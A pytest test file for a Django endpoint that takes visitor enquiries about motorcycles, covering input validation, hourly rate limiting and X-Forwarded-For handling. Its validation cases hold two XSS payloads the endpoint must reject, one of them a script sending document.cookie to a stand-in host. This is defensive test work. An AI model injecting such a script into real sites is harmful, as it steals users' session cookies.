from datetime import timedelta

import pytest
from django.utils import timezone

from website.motos.models import Enquiry

ENQUIRY = {"name": "Adèle Mornand", "email": "adele@example.org", "message": "Est-elle visible samedi ?"}


@pytest.fixture
def path(make_motorcycle):
    return f"motorcycles/{make_motorcycle().pk}/enquiries/"


def test_a_visitor_asks_about_a_motorcycle(visitor, path):
    response = visitor.post(path, {**ENQUIRY, "phone": "+33 6 00 00 00 00"})
    assert response.status_code == 201
    kept = Enquiry.objects.get()
    assert (kept.name, kept.email, kept.message) == ("Adèle Mornand", "adele@example.org", "Est-elle visible samedi ?")
    assert not kept.answered
    # Who it came from is known again, but not told.
    assert "127.0.0.1" not in kept.sender


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("name", ""),
        ("email", "adele"),
        ("email", None),
        ("phone", "call me"),
        ("message", ""),
        ("message", "x" * 2001),
        ("message", "<script>fetch('//elsewhere.example/'+document.cookie)</script>"),
        ("message", "<SVG/onload=alert(1)>"),
        ("name", "<b>Adèle</b>"),
    ],
)
def test_a_wrong_enquiry_is_refused_and_not_kept(visitor, path, field, value):
    response = visitor.post(path, {**ENQUIRY, field: value})
    assert response.status_code == 400
    assert [error["pointer"] for error in response.json()["errors"]] == [f"/{field}"]
    assert not Enquiry.objects.exists()


def test_sixth_enquiry_within_an_hour_is_refused(visitor, path):
    assert [visitor.post(path, ENQUIRY).status_code for _ in range(5)] == [201] * 5
    sixth = visitor.post(path, ENQUIRY)
    assert sixth.status_code == 429
    assert 3500 < int(sixth["Retry-After"]) <= 3600
    assert Enquiry.objects.count() == 5
    # An hour later the first of them no longer counts.
    oldest = Enquiry.objects.last()
    Enquiry.objects.filter(pk=oldest.pk).update(created_at=timezone.now() - timedelta(hours=1, seconds=1))
    assert visitor.post(path, ENQUIRY).status_code == 201


def test_forwarded_header_does_not_change_the_sender(visitor, path):
    for number in range(5):
        visitor.post(path, ENQUIRY, **{"X-Forwarded-For": f"192.0.2.{number}"})
    assert visitor.post(path, ENQUIRY, **{"X-Forwarded-For": "192.0.2.99"}).status_code == 429


def test_address_given_by_the_declared_proxy_counts(visitor, path, settings):
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "NUM_PROXIES": 1}
    for _ in range(5):
        visitor.post(path, ENQUIRY, **{"X-Forwarded-For": "203.0.113.5, 192.0.2.1"})
    assert visitor.post(path, ENQUIRY, **{"X-Forwarded-For": "198.51.100.7, 192.0.2.1"}).status_code == 429
    assert visitor.post(path, ENQUIRY, **{"X-Forwarded-For": "192.0.2.2"}).status_code == 201


def test_enquiry_about_an_unknown_motorcycle_is_a_404(visitor, path):
    assert visitor.post("motorcycles/0/enquiries/", ENQUIRY).status_code == 404


def test_enquiry_with_an_unknown_field_is_refused(visitor, path):
    response = visitor.post(path, {**ENQUIRY, "mesage": "?", "a/b": 1})
    assert response.status_code == 400
    assert [(error["pointer"], error["code"]) for error in response.json()["errors"]] == [
        ("/mesage", "unknown"),
        ("/a~1b", "unknown"),
    ]
